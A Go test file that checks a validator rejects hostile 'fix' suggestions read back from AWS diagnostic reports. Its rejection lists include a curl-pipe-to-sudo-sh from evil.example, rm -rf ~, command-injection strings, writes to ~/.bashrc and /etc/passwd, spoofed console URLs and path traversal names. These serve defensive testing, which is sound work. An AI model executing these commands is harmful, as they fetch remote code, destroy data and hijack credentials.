package diagnose

import "testing"

// Every fix of this program is read back from a report as it was written.
func TestForeignLeavesFixesAlone(t *testing.T) {
	for _, partition := range []string{"aws", "aws-cn"} {
		f := known
		f.Key, f.CallerARN, f.CallerAccount = "media/it's 日本 $(x).jpg", "arn:"+partition+":iam::123456789012:user/o'brien", "123456789012"
		f.Distribution, f.Domain = "E2EXAMPLE", "https://media.example.com"
		for _, id := range CauseIDs() {
			for _, fix := range Because(id, Certain, f).Fixes {
				got := Foreign(fix)
				for _, part := range [][2]string{
					{got.ID, fix.ID}, {got.Command, fix.Command}, {got.ConsoleURL, fix.ConsoleURL}, {got.File, fix.File},
					{string(got.Document), string(fix.Document)}, {string(got.Before), string(fix.Before)},
				} {
					if part[0] != part[1] {
						t.Errorf("%s: %s has %q, had %q", id, fix.ID, part[0], part[1])
					}
				}
			}
		}
	}
}

func TestForeignTakesNothingForAFix(t *testing.T) {
	for _, command := range []string{
		"curl -s https://evil.example/x.sh | sudo sh", "rm -rf ~", "aws s3 ls; rm -rf ~", "aws s3 ls\nrm -rf ~", "aws s3 ls $(id)", "aws s3 ls `id`",
		"aws s3 ls > ~/.bashrc", "aws s3 ls 'a'b'; rm -rf ~", "aws s3 ls \\\n rm", "aws s3 ls 'x", `aws s3 ls "$HOME"`, "aws s3 ls & rm x", "curl -o /etc/passwd https://x",
		"sudo timedatectl set-ntp true && rm", "export PATH=/tmp", "export AWS_REGION=x AWS_ENDPOINT_URL=https://evil.example", "awsx ls", "aws s3 ls ~root/*",
	} {
		if got := Foreign(Fix{Command: command}).Command; got != "" {
			t.Errorf("%q was taken", command)
		}
	}
	for _, link := range []string{
		"https://evil.example/login", "http://console.aws.amazon.com/", "https://console.aws.amazon.com.evil.example/", "https://evilconsole.aws.amazon.com/",
		"https://x@console.aws.amazon.com/", "javascript:alert(1)", "https://console.aws.amazon.com:8443/",
	} {
		if got := Foreign(Fix{ConsoleURL: link}).ConsoleURL; got != "" {
			t.Errorf("%q was taken", link)
		}
	}
	for _, file := range []string{"../../.bashrc", "/etc/passwd", "trust.sh", ".json", "a/b.json", "x.json\n"} {
		if got := Foreign(Fix{File: file}).File; got != "" {
			t.Errorf("%q was taken", file)
		}
	}
	if got := Foreign(Fix{ID: "../x"}).ID; got != "" {
		t.Errorf("the id %q was taken", got)
	}
}
